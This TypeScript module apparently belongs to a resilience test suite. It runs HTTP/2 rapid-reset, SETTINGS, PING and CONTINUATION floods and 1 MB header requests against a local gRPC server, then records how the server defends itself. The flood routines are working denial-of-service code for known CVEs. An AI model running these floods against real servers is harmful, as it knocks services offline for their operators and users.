import net from "node:net";
import { continuation, ErrorCode, headerBlock, headers, ping, requestFields, rstStream, settings, Setting } from "../h2-frames.js";
import { closedWithin, connected, H2Conn } from "../h2-conn.js";
import { attackerAddress, type Attack, type AttackContext } from "../attack.js";

const CHECK = "/grpc.health.v1.Health/Check";
const TERMINATE = "/sessioncontrol.v1.SessionControl/Terminate";

interface FloodTally {
  frames: number;
  conns: number;
  closedByServer: number;
  goaways: number;
}

/**
 * Keeps `conns` connections busy with `burst()` until the time or frame cap, reconnecting when
 * the server closes one (that is the server defending itself). `quiet`: the attacker does not
 * read what the server sends back (its answers pile up on the server's side).
 */
async function flood(ctx: AttackContext, opts: { conns: number; ms: number; maxFrames: number; quiet?: boolean }, burst: (conn: H2Conn) => { bytes: Buffer; frames: number }): Promise<FloodTally> {
  const t: FloodTally = { frames: 0, conns: 0, closedByServer: 0, goaways: 0 };
  const until = Date.now() + opts.ms;
  await Promise.all(
    Array.from({ length: opts.conns }, async (_, c) => {
      while (Date.now() < until && t.frames < opts.maxFrames) {
        let conn: H2Conn;
        try {
          conn = await H2Conn.open({ port: ctx.server.port, localAddress: attackerAddress(c), polite: !opts.quiet });
        } catch {
          t.closedByServer++;
          continue;
        }
        t.conns++;
        if (opts.quiet) conn.socket.pause();
        while (!conn.closed && Date.now() < until && t.frames < opts.maxFrames) {
          const b = burst(conn);
          if (!(await conn.write(b.bytes, until))) break;
          t.frames += b.frames;
        }
        if (conn.closed) t.closedByServer++;
        if (conn.seen.goaway) t.goaways++;
        conn.destroy();
      }
    }),
  );
  return t;
}

function summary(t: FloodTally, unit: string): string {
  return `${t.frames} ${unit} on ${t.conns} conns; the server closed ${t.closedByServer} (${t.goaways} with GOAWAY)`;
}

/** HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM at once, in a loop. */
export const rapidReset: Attack = {
  name: "h2-rapid-reset",
  what: "HEADERS + RST_STREAM(CANCEL) pairs in a loop, on Health/Check",
  async run(ctx) {
    const block = headerBlock(requestFields(CHECK, "application/grpc"));
    const t = await flood(ctx, { conns: 4, ms: ctx.smoke ? 6_000 : 20_000, maxFrames: ctx.smoke ? 100_000 : 1_000_000 }, (conn) => {
      const pairs: Buffer[] = [];
      for (let i = 0; i < 100; i++) {
        const id = conn.newStream();
        pairs.push(headers(id, block), rstStream(id, ErrorCode.CANCEL));
        conn.forget(id);
      }
      return { bytes: Buffer.concat(pairs), frames: 100 };
    });
    return { load: `${t.frames} streams, ${ctx.smoke ? 6 : 20} s cap`, problems: [], notes: [summary(t, "streams opened and reset")] };
  },
};

/** One frame as fast as the server takes it, 1,000 to a write, never reading what the server sends back. */
function quietFlood(name: string, what: string, unit: string, one: (i: number) => Buffer): Attack {
  const bytes = Buffer.concat(Array.from({ length: 1000 }, (_, i) => one(i)));
  return {
    name,
    what,
    async run(ctx) {
      const ms = ctx.smoke ? 5_000 : 15_000;
      const t = await flood(ctx, { conns: 4, ms, maxFrames: ctx.smoke ? 10_000_000 : 100_000_000, quiet: true }, () => ({ bytes, frames: 1000 }));
      return { load: `${t.frames} frames, ${ms / 1000} s cap`, problems: [], notes: [summary(t, unit)] };
    },
  };
}

export const settingsFlood = quietFlood("h2-settings-flood", "SETTINGS frames in a loop, the server's ACKs never read", "SETTINGS", () =>
  settings([
    [Setting.INITIAL_WINDOW_SIZE, 65_535],
    [Setting.MAX_CONCURRENT_STREAMS, 100],
  ]),
);

export const pingFlood = quietFlood("h2-ping-flood", "PING frames in a loop, the server's PING ACKs never read", "PINGs", (i) => ping(Buffer.from(`ping${String(i).padStart(4, "0")}`)));

/** HEADERS without END_HEADERS, then CONTINUATION frames that never end the block (CVE-2024-27983 and kin). */
export const continuationFlood: Attack = {
  name: "h2-continuation-flood",
  what: "HEADERS without END_HEADERS followed by endless CONTINUATION frames",
  async run(ctx) {
    const start = headerBlock(requestFields(TERMINATE, "application/grpc"));
    const started = new WeakSet<H2Conn>();
    let stream = 0;
    const t = await flood(ctx, { conns: 4, ms: ctx.smoke ? 5_000 : 15_000, maxFrames: ctx.smoke ? 5_000_000 : 50_000_000 }, (conn) => {
      const parts: Buffer[] = [];
      if (!started.has(conn)) {
        started.add(conn);
        stream = conn.newStream();
        parts.push(headers(stream, start, { endHeaders: false }));
      }
      // Small frames, each a whole header field: many frames for few bytes, as in the CVE.
      for (let i = 0; i < 200; i++) parts.push(continuation(stream, headerBlock([[`x-c${i}`, "v"]])));
      return { bytes: Buffer.concat(parts), frames: 200 };
    });
    return { load: `${t.frames} frames, ${ctx.smoke ? 5 : 15} s cap`, problems: [], notes: [summary(t, "CONTINUATIONs")] };
  },
};

/** A 1 MB header block, on HTTP/2 (HEADERS + CONTINUATIONs) and on HTTP/1.1 (one request's headers), again and again. */
export const hugeHeaders: Attack = {
  name: "header-block-1mb",
  what: "requests whose header block is 1 MB, on HTTP/2 and HTTP/1.1",
  async run(ctx) {
    const rounds = ctx.smoke ? 20 : 100;
    const fields = requestFields(TERMINATE, "application/grpc");
    const big = headerBlock(Array.from({ length: 64 }, (_, i) => [`x-big-${i}`, "b".repeat(16_000)] as [string, string]));
    let h2Closed = 0;
    let h2Answered = 0;
    let h1Answers: Record<string, number> = {};
    for (let r = 0; r < rounds; r++) {
      const conn = await H2Conn.open({ port: ctx.server.port, localAddress: attackerAddress(r) });
      const id = conn.newStream();
      const chunks = [headers(id, headerBlock(fields), { endHeaders: false, endStream: true })];
      for (let at = 0; at < big.length; at += 16_000) chunks.push(continuation(id, big.subarray(at, at + 16_000), at + 16_000 >= big.length));
      await conn.write(Buffer.concat(chunks));
      await closedWithin(conn.socket, 500);
      if (conn.closed) h2Closed++;
      if (conn.seen.answered + conn.seen.reset > 0) h2Answered++;
      conn.destroy();

      const status = await h1BigHeaders(ctx, r);
      h1Answers = { ...h1Answers, [status]: (h1Answers[status] ?? 0) + 1 };
    }
    const problems = Object.keys(h1Answers).filter((s) => /^5/.test(s)).map((s) => `HTTP/1.1 answered ${s}`);
    return {
      load: `${rounds} × 1 MB on h2 + ${rounds} × 1 MB on HTTP/1.1`,
      problems,
      notes: [`h2: ${h2Closed} conns closed, ${h2Answered} answered or reset; HTTP/1.1 answers: ${JSON.stringify(h1Answers)}`],
    };
  },
};

/** One HTTP/1.1 request with 1 MB of headers; the status line the server answered, or "closed". */
async function h1BigHeaders(ctx: AttackContext, r: number): Promise<string> {
  const socket = net.connect({ host: "127.0.0.1", port: ctx.server.port, localAddress: attackerAddress(r) });
  socket.on("error", () => {});
  let first = "";
  socket.on("data", (c: Buffer) => (first ||= c.toString("latin1").split("\r\n", 1)[0]!));
  try {
    await connected(socket);
    socket.write(`POST ${TERMINATE} HTTP/1.1\r\nHost: 127.0.0.1\r\n` + Array.from({ length: 64 }, (_, i) => `X-Big-${i}: ${"b".repeat(16_000)}\r\n`).join("") + "\r\n");
    await closedWithin(socket, 2_000);
  } catch {
    // closed before connecting
  }
  socket.destroy();
  return first.replace(/^HTTP\/1\.1 /, "") || "closed";
}
